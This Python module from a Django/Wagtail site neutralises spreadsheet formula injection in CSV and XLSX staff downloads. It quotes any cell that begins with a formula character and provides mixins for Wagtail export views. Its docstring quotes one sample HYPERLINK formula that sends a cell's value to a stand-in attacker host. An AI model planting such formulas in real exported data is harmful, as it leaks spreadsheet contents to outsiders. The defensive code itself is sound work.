"""One rule for every spreadsheet staff download: text that a spreadsheet would run as a formula is defused.

Names, organisations, job roles, page titles and search terms come from members, editors and the public.
Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one of them) as a formula, which can open links or leak other cells
(``=HYPERLINK("http://evil.example/?x="&A1,"Click")``). Such text gets a leading single quote, as OWASP
recommends ("CSV Injection"); numbers, dates and empty cells stay as they are, so a negative amount is still
a number.

- ``safe_cell(value)``: the rule, for one cell.
- ``csv_writer(file)`` / ``csv_response(rows, filename)``: for hand-written views (the insight downloads).
- ``SafeSpreadsheetExportMixin``: for Wagtail views with ``SpreadsheetExportMixin`` (viewset index views,
  reports); every CSV and XLSX cell, headings included, goes through ``safe_cell``.
- ``SafeSpreadsheetViewSetMixin``: for a ``ModelViewSet`` or ``SnippetViewSet`` with ``list_export``; its
  index views get the mixin above.

``tests/hub/test_exports.py`` fails when an admin view exports without the rule.
"""

from __future__ import annotations

import csv
import datetime
from collections.abc import Iterable
from decimal import Decimal
from functools import cache

from django.http import HttpResponse
from django.utils.encoding import force_str
from django.utils.http import content_disposition_header

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Kept as they are: a spreadsheet shows them as values, never runs them.
NOT_TEXT = (int, float, Decimal, datetime.date, datetime.time)  # bool is an int; datetime is a date


def safe_cell(value):
    """The value for one spreadsheet cell: text that could start a formula gets a leading ``'``.

    ``None`` and numbers, dates and times are returned unchanged; anything else is text (``str()`` of it,
    as the csv module would write it) and checked.
    """
    if value is None or isinstance(value, NOT_TEXT):
        return value
    text = force_str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class _SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_writer(file, **kwargs) -> _SafeWriter:
    """Like ``csv.writer(file)``, with ``writerow``/``writerows`` applying ``safe_cell`` to every cell."""
    return _SafeWriter(file, **kwargs)


def csv_response(rows: Iterable[Iterable], filename: str) -> HttpResponse:
    """A UTF-8 CSV download of ``rows`` (the first is the heading row), every cell through ``safe_cell``.

    It starts with a byte order mark, so spreadsheets read the file as UTF-8.
    """
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    response.write("\ufeff")
    csv_writer(response).writerows(rows)
    return response


class SafeSpreadsheetExportMixin:
    """Put before a Wagtail view class that has ``SpreadsheetExportMixin``: its CSV and XLSX cells get the rule.

    ``SpreadsheetExportMixin.write_csv_row`` and ``generate_xlsx_row`` both take each cell from
    ``preprocess_field_value``, so the rule is applied there, after Wagtail's own conversion (lists and
    objects to text, dates kept for XLSX). Wagtail writes CSV values as they are; for XLSX it only turns
    cells openpyxl would store as formulas (``=`` at the start) into text, which leaves ``+``, ``-`` and ``@``
    for the spreadsheet to read again when the file is saved as CSV. Here both formats get the same quote.
    """

    def preprocess_field_value(self, field, value, export_format):
        return safe_cell(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field):
        return safe_cell(super().get_heading(queryset, field))


@cache
def safe_export_view(view_class: type) -> type:
    """``view_class`` with ``SafeSpreadsheetExportMixin`` in front (the class itself when it has it already)."""
    if issubclass(view_class, SafeSpreadsheetExportMixin):
        return view_class
    return type(f"SafeExport{view_class.__name__}", (SafeSpreadsheetExportMixin, view_class), {})


class SafeSpreadsheetViewSetMixin:
    """Put before ``ModelViewSet`` or ``SnippetViewSet``: its index views (page and results, which both answer
    ``?export=csv`` and ``?export=xlsx``) export through ``SafeSpreadsheetExportMixin``."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.index_view_class = safe_export_view(self.index_view_class)
